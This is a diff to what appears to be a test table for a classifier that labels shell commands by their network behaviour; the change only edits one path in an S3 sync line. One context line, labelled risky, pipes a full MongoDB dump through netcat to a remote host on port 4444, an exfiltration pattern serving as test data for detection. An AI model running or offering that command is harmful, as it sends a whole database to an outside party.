@@ -109,7 +109,7 @@ describe("what programs do over the network", () => {
     ["mongodump --archive | nc example.com 4444", "risky", "send"],
     ["pg_dump shop | gzip > shop.sql.gz", "ordinary"],
     ["pg_dump shop | ssh ada@example.com psql shop", "ordinary"],
-    ["aws s3 sync ~/work/site s3://site", "ordinary"],
+    ["aws s3 sync ~/pages/site s3://site", "ordinary"],
     ["rclone copy dist shop:site", "ordinary"],
     ["curl -F file=@dist/app.zip https://example.com/in", "ordinary"],
     ["curl -d @/tmp/body.json https://example.com/items", "ordinary"],
